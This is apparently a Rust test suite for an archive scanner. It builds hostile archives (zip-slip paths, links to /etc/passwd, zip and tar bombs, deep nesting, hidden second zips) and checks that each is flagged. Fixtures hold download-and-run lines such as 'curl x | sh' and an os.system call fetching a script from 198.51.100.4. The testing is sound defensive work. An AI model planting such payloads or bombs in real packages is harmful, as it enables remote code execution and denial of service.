#![allow(clippy::unwrap_used)]
//! Archives built to hurt whoever opens them, made here by the test: each one must come back in bounded
//! time as a listing with a clear issue or skip, never an error, a hang or an allocation the size of the
//! bomb.

use skill_scan_archive::{
    read_archive_bytes, read_archive_bytes_keeping, read_archive_file, ArchiveListing, IssueKind,
    Limits,
};
use skill_scan_walk::FileSource;
use std::io::{self, Cursor, Read, Write};
use std::sync::Arc;
use std::time::{Duration, Instant};
use zip::write::SimpleFileOptions;

mod support;

use support::{gzip, tar_entry, tar_gz, zip_of};

fn read(name: &str, bytes: Vec<u8>, limits: &Limits) -> ArchiveListing {
    read_archive_bytes(name, Arc::from(bytes), limits).unwrap()
}

fn paths(listing: &ArchiveListing) -> Vec<&str> {
    listing
        .walked
        .files
        .iter()
        .map(|f| f.rel_path.as_str())
        .collect()
}

fn kinds(listing: &ArchiveListing) -> Vec<IssueKind> {
    listing.issues.iter().map(|i| i.kind).collect()
}

fn skip_reason<'a>(listing: &'a ArchiveListing, path: &str) -> &'a str {
    listing
        .walked
        .skipped
        .iter()
        .find(|s| s.path == path)
        .map(|s| s.reason.as_str())
        .unwrap_or_else(|| panic!("{path} not skipped: {:?}", listing.walked.skipped))
}

#[test]
fn npm_sdist_and_github_top_folders_are_taken_off_and_wheels_left_alone() {
    let npm = read(
        "x.tgz",
        tar_gz(&[("package/package.json", b"{}"), ("package/lib/a.js", b"1")]),
        &Limits::default(),
    );
    assert_eq!(paths(&npm), ["lib/a.js", "package.json"]);
    assert_eq!(npm.stripped_prefix.as_deref(), Some("package"));

    let sdist = read(
        "x-1.0.tar.gz",
        tar_gz(&[("x-1.0/setup.py", b"pass"), ("x-1.0/x/__init__.py", b"")]),
        &Limits::default(),
    );
    assert_eq!(paths(&sdist), ["setup.py", "x/__init__.py"]);

    let wheel = read(
        "x-1.0-py3-none-any.whl",
        zip_of(&[
            ("x/__init__.py", b""),
            ("x-1.0.dist-info/METADATA", b"Name: x"),
        ]),
        &Limits::default(),
    );
    assert_eq!(paths(&wheel), ["x/__init__.py", "x-1.0.dist-info/METADATA"]);
    assert_eq!(wheel.stripped_prefix, None);
    assert!(wheel.issues.is_empty());
}

#[test]
fn each_entry_is_read_again_from_the_archive_and_only_the_wanted_ones_are_kept() {
    let zip = zip_of(&[
        ("skill/SKILL.md", b"# hi\n"),
        ("skill/run.sh", b"echo hi\n"),
    ]);
    let listing = read("x.zip", zip.clone(), &Limits::default());
    assert_eq!(paths(&listing), ["SKILL.md", "run.sh"]);
    assert_eq!(listing.walked.files[1].read(100).unwrap(), b"echo hi\n");
    assert_eq!(listing.walked.files[1].size, 8);
    assert!(listing.walked.files[1]
        .read(7)
        .unwrap_err()
        .contains("too large"));
    assert!(listing
        .walked
        .files
        .iter()
        .all(|f| matches!(&f.source, FileSource::Archive(e) if !e.source.in_order_only())));

    // The caller names the files it reads first, by the path they are reported under.
    let keep = |path: &str| path == "SKILL.md";
    let listing =
        read_archive_bytes_keeping("x.zip", Arc::from(zip), &Limits::default(), &keep).unwrap();
    assert!(
        matches!(&listing.walked.files[0].source, FileSource::Memory(b) if &b[..] == b"# hi\n")
    );
    assert!(matches!(
        &listing.walked.files[1].source,
        FileSource::Archive(_)
    ));

    // A tar stream is read in order, in one pass, for all the entries asked for.
    let tgz = tar_gz(&[
        ("package/package.json", b"{}"),
        ("package/a.js", b"a"),
        ("package/b.js", b"bb"),
        ("package/c.js", b"ccc"),
    ]);
    let keep = |path: &str| path == "package.json";
    let listing =
        read_archive_bytes_keeping("x.tgz", Arc::from(tgz), &Limits::default(), &keep).unwrap();
    assert_eq!(paths(&listing), ["a.js", "b.js", "c.js", "package.json"]);
    assert!(matches!(&listing.walked.files[3].source, FileSource::Memory(b) if &b[..] == b"{}"));
    let FileSource::Archive(a) = &listing.walked.files[0].source else {
        panic!("a.js is not read from the archive");
    };
    assert!(a.source.in_order_only());
    let indices: Vec<usize> = listing.walked.files[..3]
        .iter()
        .map(|f| match &f.source {
            FileSource::Archive(e) => e.index,
            other => panic!("{other:?}"),
        })
        .collect();
    let mut got = Vec::new();
    a.source.read_in_order(&indices, 100, &mut |index, read| {
        got.push((index, read.unwrap()));
        true
    });
    let bytes: Vec<&[u8]> = got.iter().map(|(_, b)| b.as_slice()).collect();
    assert_eq!(bytes, [&b"a"[..], b"bb", b"ccc"]);
    assert_eq!(listing.walked.files[2].read(100).unwrap(), b"ccc");
}

#[test]
fn an_archive_file_changed_after_it_was_listed_is_not_read_as_something_else() {
    let dir = tempfile::tempdir().unwrap();
    for (name, bytes) in [
        ("x.tgz", tar_gz(&[("package/a.js", b"benign();")])),
        ("x.zip", zip_of(&[("package/a.js", b"benign();")])),
    ] {
        let path = dir.path().join(name);
        std::fs::write(&path, &bytes).unwrap();
        let listing = read_archive_file(&path, &Limits::default()).unwrap();
        assert_eq!(paths(&listing), ["a.js"]);
        // Rewritten in place (the same file the listing holds open), with a longer payload.
        let swapped = match name {
            "x.tgz" => tar_gz(&[("package/a.js", b"malicious();")]),
            _ => zip_of(&[("package/a.js", b"malicious();")]),
        };
        std::fs::write(&path, &swapped).unwrap();
        let err = listing.walked.files[0].read(100).unwrap_err();
        assert!(
            err.contains("changed while it was scanned"),
            "{name}: {err}"
        );
    }
}

#[test]
fn zip_slip_absolute_names_links_and_devices_are_reported_never_followed() {
    let mut builder = tar::Builder::new(Vec::new());
    use tar::EntryType::*;
    tar_entry(&mut builder, b"package/package.json", Regular, b"{}", b"");
    tar_entry(&mut builder, b"../evil.sh", Regular, b"curl x | sh", b"");
    tar_entry(&mut builder, b"package/../../evil2", Regular, b"x", b"");
    tar_entry(&mut builder, b"/tmp/abs-evil", Regular, b"x", b"");
    tar_entry(
        &mut builder,
        b"package/passwd",
        Symlink,
        b"",
        b"/etc/passwd",
    );
    tar_entry(&mut builder, b"package/up", Symlink, b"", b"../../x");
    tar_entry(&mut builder, b"package/inside", Symlink, b"", b"lib/a.js");
    tar_entry(
        &mut builder,
        b"package/hard",
        Link,
        b"",
        b"package/package.json",
    );
    tar_entry(&mut builder, b"package/hard-out", Link, b"", b"/etc/shadow");
    tar_entry(&mut builder, b"package/dev", Char, b"", b"");
    tar_entry(&mut builder, b"package/fifo", Fifo, b"", b"");
    let listing = read(
        "x.tgz",
        gzip(&builder.into_inner().unwrap()),
        &Limits::default(),
    );

    // A hard link to a file of the package is that file under its own name (issue 22, item 2).
    assert_eq!(paths(&listing), ["hard", "package.json"]);
    assert_eq!(text_of(&listing, "hard"), "{}");
    let mut found = kinds(&listing);
    found.sort();
    use IssueKind::*;
    assert_eq!(
        found,
        [
            PathEscape,
            PathEscape,
            PathEscape,
            LinkOutside,
            LinkOutside,
            LinkOutside
        ]
    );
    let escape = listing
        .issues
        .iter()
        .find(|i| i.path == "../evil.sh")
        .unwrap();
    assert!(
        escape.message.contains("climbs out with `..`"),
        "{}",
        escape.message
    );
    let link = listing.issues.iter().find(|i| i.path == "passwd").unwrap();
    assert!(link.message.contains("/etc/passwd"), "{}", link.message);
    assert!(skip_reason(&listing, "passwd").contains("outside the package; not followed"));
    assert!(skip_reason(&listing, "inside").contains("inside the package; not followed"));
    assert!(skip_reason(&listing, "dev").contains("device"));
    assert!(skip_reason(&listing, "fifo").contains("FIFO"));
    assert!(skip_reason(&listing, "/tmp/abs-evil").contains("absolute"));
}

#[test]
fn zip_slip_in_a_zip_with_windows_separators_and_a_symlink() {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default();
    writer.start_file("skill/SKILL.md", options).unwrap();
    writer.write_all(b"# skill\n").unwrap();
    writer.start_file("skill\\..\\..\\evil", options).unwrap();
    writer.write_all(b"x").unwrap();
    writer.start_file("C:/evil", options).unwrap();
    writer.write_all(b"x").unwrap();
    writer
        .add_symlink("skill/creds", "/etc/passwd", options)
        .unwrap();
    let listing = read(
        "s.skill",
        writer.finish().unwrap().into_inner(),
        &Limits::default(),
    );
    assert_eq!(paths(&listing), ["SKILL.md"]);
    let mut found = kinds(&listing);
    found.sort();
    use IssueKind::*;
    assert_eq!(found, [PathEscape, PathEscape, LinkOutside]);
}

/// A zip holding `size` zero bytes in one deflated entry, compressed as it is written (never held whole).
fn zero_zip(entry: &str, size: u64) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(9))
        .large_file(size >= 1 << 32);
    writer.start_file(entry, options).unwrap();
    io::copy(&mut io::repeat(0).take(size), &mut writer).unwrap();
    writer.finish().unwrap().into_inner()
}

fn timed<T>(f: impl FnOnce() -> T) -> (T, Duration) {
    let start = Instant::now();
    let value = f();
    (value, start.elapsed())
}

#[test]
fn a_gibibyte_zip_bomb_is_refused_from_its_header_and_when_nested() {
    let bomb = zero_zip("zeros.bin", 1 << 30);
    assert!(bomb.len() < 2 << 20, "{} bytes", bomb.len());
    let (listing, took) = timed(|| read("bomb.zip", bomb.clone(), &Limits::default()));
    assert!(took < Duration::from_secs(5), "{took:?}");
    assert_eq!(kinds(&listing), [IssueKind::CompressionBomb]);
    assert_eq!(listing.issues[0].path, "zeros.bin");
    assert!(listing.bytes_read < 1 << 20, "{}", listing.bytes_read);

    // Zipped again, the bomb is a few KiB on disk; opened as a nested archive it is still refused.
    let outer = zip_of(&[("pkg/README.md", b"hello\n"), ("pkg/inner.zip", &bomb)]);
    assert!(outer.len() < 64 << 10, "{} bytes", outer.len());
    let (listing, took) = timed(|| read("outer.zip", outer, &Limits::default()));
    assert!(took < Duration::from_secs(5), "{took:?}");
    assert_eq!(kinds(&listing), [IssueKind::CompressionBomb]);
    assert_eq!(listing.issues[0].path, "inner.zip!/zeros.bin");
    assert_eq!(paths(&listing), ["README.md"]);
}

#[test]
fn a_zip_entry_that_lies_about_its_size_is_a_bomb_too() {
    // Declares a small size in its headers but inflates to 64 MiB: stopped at the declared size.
    let mut bomb = zero_zip("z.bin", 64 << 20);
    let real = (64u32 << 20).to_le_bytes();
    let lie = 1000u32.to_le_bytes();
    let mut i = 0;
    while i + 4 <= bomb.len() {
        if bomb[i..i + 4] == real {
            bomb[i..i + 4].copy_from_slice(&lie);
        }
        i += 1;
    }
    let listing = read("liar.zip", bomb, &Limits::default());
    assert!(listing.bytes_read < 1 << 20, "{}", listing.bytes_read);
    assert!(
        kinds(&listing) == [IssueKind::CompressionBomb]
            || kinds(&listing) == [IssueKind::Unreadable],
        "{:?}",
        listing.issues
    );
    assert!(listing.walked.files.is_empty());
}

#[test]
fn a_gibibyte_of_zeros_in_a_tarball_is_stopped_by_the_ratio_while_streaming() {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::best(),
    ));
    tar_entry(
        &mut builder,
        b"package/index.js",
        tar::EntryType::Regular,
        b"module.exports = 1;\n",
        b"",
    );
    let mut header = tar::Header::new_gnu();
    header.set_path("package/zeros.bin").unwrap();
    header.set_size(1 << 30);
    header.set_cksum();
    builder
        .append(&header, io::repeat(0).take(1 << 30))
        .unwrap();
    let bomb = builder.into_inner().unwrap().finish().unwrap();
    assert!(bomb.len() < 2 << 20, "{} bytes", bomb.len());
    let (listing, took) = timed(|| read("bomb.tgz", bomb, &Limits::default()));
    assert!(took < Duration::from_secs(5), "{took:?}");
    assert_eq!(kinds(&listing), [IssueKind::CompressionBomb]);
    assert!(listing.issues[0].message.contains("decompression bomb"));
    assert!(listing.bytes_read < 64 << 20, "{}", listing.bytes_read);
    assert_eq!(paths(&listing), ["index.js"]);
}

#[test]
fn two_hundred_thousand_tiny_entries_stop_at_the_entry_limit() {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    for n in 0..200_000 {
        let mut header = tar::Header::new_gnu();
        header.set_path(format!("package/f/{n}.txt")).unwrap();
        header.set_size(1);
        header.set_cksum();
        builder.append(&header, &b"x"[..]).unwrap();
    }
    let many = builder.into_inner().unwrap().finish().unwrap();
    let (listing, took) = timed(|| read("many.tgz", many, &Limits::default()));
    assert!(took < Duration::from_secs(30), "{took:?}");
    assert_eq!(kinds(&listing), [IssueKind::EntryLimit]);
    assert_eq!(listing.walked.files.len(), 100_000);
    assert!(listing.issues[0]
        .message
        .contains("more than 100000 entries"));
}

#[test]
fn a_zip_declaring_more_entries_than_the_limit_is_not_opened() {
    let names: Vec<String> = (0..3000).map(|n| format!("pkg/{n}.txt")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    let limits = Limits {
        max_entries: 2000,
        ..Limits::default()
    };
    let listing = read("many.zip", zip_of(&files), &limits);
    assert_eq!(kinds(&listing), [IssueKind::EntryLimit]);
    assert!(listing.walked.files.is_empty());
    assert!(skip_reason(&listing, "many.zip").contains("3000 entries"));
    let roomy = Limits {
        max_entries: 3000,
        ..Limits::default()
    };
    assert_eq!(
        read("many.zip", zip_of(&files), &roomy).walked.files.len(),
        3000
    );

    // Past 65,535 entries the count is in the zip64 record.
    let names: Vec<String> = (0..70_000).map(|n| format!("pkg/{n}")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b""[..])).collect();
    let big = zip_of(&files);
    let limits = Limits {
        max_entries: 65_000,
        ..Limits::default()
    };
    let listing = read("big.zip", big.clone(), &limits);
    assert_eq!(kinds(&listing), [IssueKind::EntryLimit]);
    assert!(listing.issues[0]
        .message
        .contains("the zip declares 70000 entries"));
    let listing = read("big.zip", big, &Limits::default());
    assert!(listing.issues.is_empty(), "{:?}", listing.issues);
    assert_eq!(listing.walked.files.len(), 70_000);
}

#[test]
fn a_tarball_nested_ten_deep_is_opened_to_the_depth_limit() {
    let mut archive = tar_gz(&[("package/deepest.js", b"eval(x)")]);
    for level in (1..10).rev() {
        let name = format!("package/level{level}.tgz");
        archive = tar_gz(&[
            (&format!("package/file{level}.js"), b"1"),
            (&name, &archive),
        ]);
    }
    let (listing, took) = timed(|| read("level0.tgz", archive, &Limits::default()));
    assert!(took < Duration::from_secs(5), "{took:?}");
    assert_eq!(kinds(&listing), [IssueKind::NestingLimit]);
    let deepest = "level1.tgz!/level2.tgz!/level3.tgz!/level4.tgz";
    assert_eq!(listing.issues[0].path, deepest);
    assert!(skip_reason(&listing, deepest).contains("nested more than 3 deep"));
    assert_eq!(
        paths(&listing),
        [
            "file1.js",
            "level1.tgz!/file2.js",
            "level1.tgz!/level2.tgz!/file3.js",
            "level1.tgz!/level2.tgz!/level3.tgz!/file4.js",
        ]
    );
    let deeper = Limits {
        max_depth: 20,
        ..Limits::default()
    };
    let listing = read("level0.tgz", tar_gz_nested_ten(), &deeper);
    assert!(listing.issues.is_empty(), "{:?}", listing.issues);
    assert!(paths(&listing).iter().any(|p| p.ends_with("!/deepest.js")));
}

fn tar_gz_nested_ten() -> Vec<u8> {
    let mut archive = tar_gz(&[("package/deepest.js", b"eval(x)")]);
    for level in (1..10).rev() {
        let name = format!("package/level{level}.tgz");
        archive = tar_gz(&[(&name, &archive)]);
    }
    archive
}

#[test]
fn a_truncated_gzip_keeps_what_came_before_and_says_where_it_broke() {
    let big: Vec<u8> = (0..200_000u32).flat_map(|n| n.to_le_bytes()).collect();
    let whole = tar_gz(&[
        ("package/package.json", b"{\"name\":\"x\"}"),
        ("package/index.js", b"module.exports = 1;\n"),
        ("package/blob.bin", &big),
        ("package/z.js", b"2"),
    ]);
    let cut = whole[..whole.len() * 2 / 3].to_vec();
    let (listing, took) = timed(|| read("cut.tgz", cut, &Limits::default()));
    assert!(took < Duration::from_secs(2), "{took:?}");
    assert_eq!(paths(&listing), ["index.js", "package.json"]);
    assert_eq!(kinds(&listing), [IssueKind::Unreadable]);
    assert_eq!(listing.issues[0].path, "blob.bin");
    assert!(listing.issues[0].message.contains("cut short or damaged"));
    assert!(skip_reason(&listing, "blob.bin").contains("cut short"));
}

#[test]
fn the_total_size_limit_stops_the_read_with_an_issue() {
    let data = vec![b'a'; 4096];
    let archive = tar_gz(&[("p/a.txt", &data), ("p/b.txt", &data), ("p/c.txt", &data)]);
    let limits = Limits {
        max_total_bytes: 6000,
        ..Limits::default()
    };
    let listing = read("x.tgz", archive, &limits);
    assert_eq!(kinds(&listing), [IssueKind::SizeLimit]);
    assert_eq!(paths(&listing), ["a.txt"]);
    assert!(listing.issues[0].message.contains("--max-archive-bytes"));
}

#[test]
fn oversized_files_are_skipped_and_a_later_entry_of_the_same_name_wins() {
    let big = vec![b'a'; 2000];
    let archive = tar_gz(&[
        ("p/big.txt", &big),
        ("p/index.js", b"benign()"),
        ("p/index.js", b"malicious()"),
    ]);
    let limits = Limits {
        max_file_size: 1000,
        ..Limits::default()
    };
    let listing = read("x.tgz", archive, &limits);
    assert_eq!(paths(&listing), ["index.js"]);
    assert_eq!(listing.walked.files[0].read(100).unwrap(), b"malicious()");
    assert!(skip_reason(&listing, "big.txt").contains("too large"));
    assert!(skip_reason(&listing, "index.js").contains("same name"));
}

#[test]
fn names_that_are_not_utf8_are_kept_with_a_diagnostic() {
    let mut builder = tar::Builder::new(Vec::new());
    tar_entry(
        &mut builder,
        b"package/caf\xe9.js",
        tar::EntryType::Regular,
        b"1",
        b"",
    );
    tar_entry(
        &mut builder,
        b"package/ok.js",
        tar::EntryType::Regular,
        b"2",
        b"",
    );
    let listing = read(
        "x.tgz",
        gzip(&builder.into_inner().unwrap()),
        &Limits::default(),
    );
    assert_eq!(paths(&listing), ["caf%E9.js", "ok.js"]);
    assert_eq!(listing.diagnostics.len(), 1);
    assert!(listing.diagnostics[0].message.contains("not valid UTF-8"));
}

#[test]
fn a_gzipped_single_file_is_read_as_that_file() {
    let listing = read("install.sh.gz", gzip(b"curl x | sh\n"), &Limits::default());
    assert_eq!(paths(&listing), ["install.sh"]);
    let inner = zip_of(&[("lib/data.json.gz", &gzip(b"{}"))]);
    let listing = read("x.zip", inner, &Limits::default());
    assert_eq!(paths(&listing), ["data.json.gz!/data.json"]);
}

#[test]
fn garbage_named_like_an_archive_is_an_error_and_a_damaged_zip_an_issue() {
    let err = read_archive_bytes(
        "x.tgz",
        Arc::from(&b"<html>not found</html>"[..]),
        &Limits::default(),
    )
    .unwrap_err();
    assert!(err.to_string().contains("not a gzip, tar or zip"), "{err}");
    let mut broken = b"PK\x03\x04".to_vec();
    broken.extend_from_slice(&[7u8; 100]);
    let listing = read("x.zip", broken, &Limits::default());
    assert_eq!(kinds(&listing), [IssueKind::Unreadable]);
}

#[test]
fn a_password_protected_entry_is_reported() {
    let mut bytes = zip_of(&[
        ("pkg/payload.sh", b"curl x | sh"),
        ("pkg/README.md", b"read me"),
    ]);
    // Mark the first entry encrypted (general-purpose flag bit 0) in its local and central headers.
    assert_eq!(&bytes[..4], b"PK\x03\x04");
    bytes[6] |= 1;
    let central = bytes.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
    bytes[central + 8] |= 1;
    let listing = read("x.zip", bytes, &Limits::default());
    assert_eq!(kinds(&listing), [IssueKind::Encrypted]);
    assert_eq!(paths(&listing), ["README.md"]);
    assert!(skip_reason(&listing, "payload.sh").contains("password"));
}

/// The text of `path` in the listing, read the way the scanner reads it.
fn text_of(listing: &ArchiveListing, path: &str) -> String {
    let entry = listing
        .walked
        .files
        .iter()
        .find(|f| f.rel_path == path)
        .unwrap_or_else(|| panic!("{path} not listed: {:?}", paths(listing)));
    String::from_utf8(entry.read(1 << 20).unwrap()).unwrap()
}

#[test]
fn two_zips_end_to_end_are_read_as_pip_reads_them_and_flagged() {
    let benign = zip_of(&[("pkg/__init__.py", b"VERSION = 1\n".as_slice())]);
    let hostile = zip_of(&[(
        "pkg/__init__.py",
        b"import os\nos.system('curl -s http://198.51.100.4/p.sh | sh')\n".as_slice(),
    )]);
    let joined = [benign, hostile].concat();
    let listing = read("pkg-1.0-py3-none-any.whl", joined, &Limits::default());
    assert_eq!(kinds(&listing), [IssueKind::ZipReadingsDiffer]);
    // (the lone top folder is taken off, as for any archive)
    assert!(text_of(&listing, "__init__.py").contains("os.system"));
}

#[test]
fn bytes_before_a_zip_are_skipped_as_pip_skips_them_and_flagged() {
    let mut bytes = b"#!/usr/bin/env python3\n# a launcher stub\n".to_vec();
    bytes.extend(zip_of(&[("pkg/mod.py", b"X = 1\n".as_slice())]));
    let listing = read(
        "pkg-1.0-py3-none-any.whl",
        bytes.clone(),
        &Limits::default(),
    );
    assert_eq!(kinds(&listing), [IssueKind::DataBeforeZip]);
    assert_eq!(text_of(&listing, "mod.py"), "X = 1\n");
    // From a file too, read at an offset.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("stub.whl");
    std::fs::write(&path, &bytes).unwrap();
    let listing = skill_scan_archive::read_archive_file(&path, &Limits::default()).unwrap();
    assert_eq!(kinds(&listing), [IssueKind::DataBeforeZip]);
    assert_eq!(text_of(&listing, "mod.py"), "X = 1\n");
}

#[test]
fn links_inside_a_tarball_are_read_as_the_file_they_name() {
    let manifest = br#"{"name": "linked", "scripts": {"preinstall": "node test/setup.js"}}"#;
    let mut tar = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_gnu();
    header.set_size(manifest.len() as u64);
    header.set_mode(0o644);
    tar.append_data(&mut header, "package/manifest.json", manifest.as_slice())
        .unwrap();
    for (kind, name, target) in [
        (
            tar::EntryType::Link,
            "package/package.json",
            "package/manifest.json",
        ),
        (tar::EntryType::Symlink, "package/index.js", "manifest.json"),
        (
            tar::EntryType::Symlink,
            "package/outside.js",
            "../../etc/passwd",
        ),
    ] {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(kind);
        header.set_size(0);
        header.set_mode(0o644);
        tar.append_link(&mut header, name, target).unwrap();
    }
    let listing = read(
        "linked.tgz",
        gzip(&tar.into_inner().unwrap()),
        &Limits::default(),
    );
    assert_eq!(
        paths(&listing),
        ["index.js", "manifest.json", "package.json"]
    );
    assert!(text_of(&listing, "package.json").contains("preinstall"));
    assert!(text_of(&listing, "index.js").contains("preinstall"));
    assert_eq!(kinds(&listing), [IssueKind::LinkOutside]);
    assert!(skip_reason(&listing, "outside.js").contains("outside"));
}
